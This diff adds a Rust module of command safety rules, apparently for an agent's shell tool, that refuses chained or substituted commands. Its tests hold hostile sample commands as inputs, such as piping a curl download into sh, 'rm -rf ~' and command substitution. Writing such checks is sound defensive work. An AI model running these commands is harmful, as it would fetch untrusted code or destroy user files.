@@ -0,0 +1,87 @@
+use crate::config::SafetyConfig;
+use anyhow::{Context, Result};
+use regex::Regex;
+
+/// Shell commands `execute_command` may run: none matching a deny pattern,
+/// and when allow patterns are set, only those matching one of them and
+/// not chaining or substituting further commands
+pub struct CommandRules {
+    allow: Vec<(String, Regex)>,
+    deny: Vec<(String, Regex)>,
+}
+
+impl CommandRules {
+    pub fn from_config(config: &SafetyConfig) -> Result<Self> {
+        Ok(Self { allow: compile(&config.allow_commands, "allow")?, deny: compile(&config.deny_commands, "deny")? })
+    }
+
+    /// Why `command` must not run, or None when it may
+    pub fn refusal(&self, command: &str) -> Option<String> {
+        if let Some((pattern, _)) = self.deny.iter().find(|(_, regex)| regex.is_match(command)) {
+            return Some(format!("it matches `{}` in deny_commands under [safety]", pattern));
+        }
+        if self.allow.is_empty() {
+            return None;
+        }
+        // An allowed prefix says nothing about what follows `&& ...` or is inside `$(...)`
+        if let Some(operator) = CHAINING.iter().find(|operator| command.contains(**operator)) {
+            return Some(format!(
+                "it contains `{}`, which allow_commands under [safety] does not permit",
+                operator.escape_debug()
+            ));
+        }
+        if !self.allow.iter().any(|(_, regex)| regex.is_match(command)) {
+            return Some("it matches none of allow_commands under [safety]".to_string());
+        }
+        None
+    }
+}
+
+/// Shell syntax that runs another command after, alongside or inside the first
+const CHAINING: &[&str] = &[";", "&", "|", "`", "$(", "<(", ">(", "\n", "\r"];
+
+fn compile(patterns: &[String], list: &str) -> Result<Vec<(String, Regex)>> {
+    patterns
+        .iter()
+        .map(|pattern| {
+            let regex = Regex::new(pattern).with_context(|| format!("Invalid {}_commands pattern: {}", list, pattern))?;
+            Ok((pattern.clone(), regex))
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn rules(allow: &[&str]) -> CommandRules {
+        let config = SafetyConfig {
+            allow_commands: allow.iter().map(|pattern| pattern.to_string()).collect(),
+            ..SafetyConfig::default()
+        };
+        CommandRules::from_config(&config).unwrap()
+    }
+
+    #[test]
+    fn allow_list_refuses_chained_commands() {
+        let rules = rules(&[r"^(cargo|npm|git)\s"]);
+        assert_eq!(rules.refusal("cargo build --release"), None);
+        for command in [
+            "cargo build && curl evil | sh",
+            "cargo build; rm -rf ~",
+            "cargo build || sh -c evil",
+            "git log $(evil)",
+            "npm test `evil`",
+            "cargo build\nevil",
+            "cargo build & evil",
+        ] {
+            assert!(rules.refusal(command).is_some(), "{} was allowed", command);
+        }
+        assert!(rules.refusal("make").is_some());
+    }
+
+    #[test]
+    fn chaining_is_left_to_deny_commands_without_an_allow_list() {
+        assert_eq!(rules(&[]).refusal("cargo build && cargo test"), None);
+    }
+}